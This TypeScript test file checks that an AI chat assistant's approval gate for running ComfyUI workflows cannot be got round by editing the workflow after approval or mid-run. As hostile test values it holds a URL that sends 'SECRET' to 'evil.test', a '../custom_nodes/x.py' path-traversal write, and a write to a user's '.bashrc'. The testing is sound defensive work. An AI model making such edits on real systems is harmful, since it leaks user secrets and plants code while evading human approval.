/** An answer about a run holds for what was shown, however the workflow is changed before it runs or runs again. */

import { expect, it } from "vitest";
import { createApprovals } from "../chat/calls/approvals";
import type { FakeComfy } from "../comfy/fake";
import { createFakeComfy } from "../comfy/fake";
import type { ApprovalRequest } from "../shared/toolCalls";
import { editWorkflow } from "../tools/editWorkflow";
import { executeWorkflow } from "../tools/executeWorkflow";
import type { Ask } from "../tools/missing/ask";
import { roomOf } from "../tools/room";
import { hostileNodes } from "../tools/testing/hostileNodes";
import { success } from "../tools/testing/testRuns";
import { runTool, type Tool, type ToolContext } from "../tools/tool";

/** A picture that is saved (1, 2), and more. */
function canvas(change: (comfy: FakeComfy) => void): FakeComfy {
  const comfy = createFakeComfy({ definitions: hostileNodes });
  comfy.edit((editor) => {
    editor.addNode("EmptyImage");
    editor.addNode("SaveImage");
    editor.connect({ node: "1", output: 0 }, { node: "2", input: 0 });
  });
  change(comfy);
  return comfy;
}

const withUrl = () =>
  canvas((comfy) =>
    comfy.edit((editor) => {
      editor.addNode("Words");
      editor.addNode("PictureFromUrl");
      editor.connect({ node: "3", output: 0 }, { node: "4", input: 0 });
      editor.setWidget("3", "value", "http://good.test/a.png");
    }),
  );

const withTextFile = () =>
  canvas((comfy) =>
    comfy.edit((editor) => {
      editor.addNode("SaveTextFile");
      editor.setWidget("3", "path", "output/a.txt");
    }),
  );

/** The packages are trusted: what is asked is asked because of what their nodes do. */
const trusting: Ask = async () => ({ ok: true, value: { packages: ["a-package"] } });

/** In Auto mode; each question is answered by `answer`, which may also do something. */
function chat(comfy: FakeComfy) {
  const approvals = createApprovals({ getItem: () => "auto", setItem() {} });
  const questions: ApprovalRequest[] = [];
  async function call<Input, Data>(
    tool: Tool<Input, Data>,
    args: Input,
    answer: (question: ApprovalRequest) => void,
    more: Partial<ToolContext> = {},
  ) {
    const stop = new AbortController();
    const unsubscribe = approvals.pending.subscribe(() => {
      const question = approvals.pending.get().get("call");
      if (!question || questions.includes(question)) return;
      questions.push(question);
      answer(question);
    });
    const result = await runTool(tool, args, comfy, {
      signal: stop.signal,
      room: roomOf(),
      onProgress() {},
      thread: "thread",
      turn: "turn",
      confirm: (request) => approvals.confirm("call", request, stop.signal),
      ask: trusting,
      ...more,
    });
    unsubscribe();
    return result;
  }
  const deny = (question: ApprovalRequest) => approvals.answer(question, false);
  return { approvals, questions, call, deny };
}

it("what is allowed for the chat ends with another text that comes into the node by a link", async () => {
  const comfy = withUrl();
  const { approvals, questions, call, deny } = chat(comfy);
  await call(executeWorkflow, {}, (question) => approvals.answer(question, true));
  await call(executeWorkflow, {}, deny);
  expect([questions.length, comfy.queue.runs.length]).toEqual([1, 2]);

  const set = { op: "set", nodes: ["3"], widgets: { value: "http://evil.test/?d=SECRET" } };
  await call(editWorkflow, { operations: [set] }, () => {});
  await call(executeWorkflow, {}, deny);
  expect([questions.length, comfy.queue.runs.length]).toEqual([2, 2]);
});

it("an edit while the language model makes room is asked about before anything runs", async () => {
  const comfy = withTextFile();
  const { questions, call, deny } = chat(comfy);
  const result = await call(executeWorkflow, {}, deny, {
    async ask(method) {
      if (method === "POST") comfy.edit((editor) => editor.setWidget("3", "path", "../custom_nodes/x.py"));
      return trusting("GET", "");
    },
  });
  expect(questions).toMatchObject([{ detail: expect.stringContaining("../custom_nodes/x.py") }]);
  expect([result.ok, comfy.queue.runs.length]).toEqual([false, 0]);
});

it("what changes each time that it is about to run is not run", async () => {
  const comfy = withTextFile();
  const { approvals, questions, call } = chat(comfy);
  let count = 0;
  const result = await call(executeWorkflow, {}, (question) => approvals.answer(question, true), {
    async ask(method) {
      if (method === "POST") comfy.edit((editor) => editor.setWidget("3", "path", `/elsewhere/${count++}`));
      return trusting("GET", "");
    },
  });
  expect(result).toMatchObject({ ok: false, error: expect.stringContaining("changes by itself") });
  expect([questions.length, comfy.queue.runs.length]).toEqual([2, 0]);
});

it("after a reload the runs that are left do not begin where a value was changed that counts", async () => {
  const comfy = withTextFile();
  const { call, deny, questions } = chat(comfy);
  comfy.queue.runner = () => {};
  const args = { vary: [{ node: "3", widget: "text", values: ["a", "b"] }] };
  const noted = new Promise((resolve) => {
    void call(executeWorkflow, args, deny, { outlive: (note) => resolve(JSON.parse(JSON.stringify(note))) });
  });
  const outlived = await noted;
  comfy.queue.leavePage();
  comfy.edit((editor) => editor.setWidget("3", "path", "/home/somebody/.bashrc"));
  const going = call(executeWorkflow, args, deny, { outlived });
  comfy.queue.runs[0]?.finish(success([]));
  expect(await going).toMatchObject({ ok: true, summary: expect.stringContaining("1 were not begun") });
  expect(JSON.stringify(comfy.queue.runs.map(({ nodes }) => nodes))).not.toContain(".bashrc");
  expect(questions).toEqual([]);
});
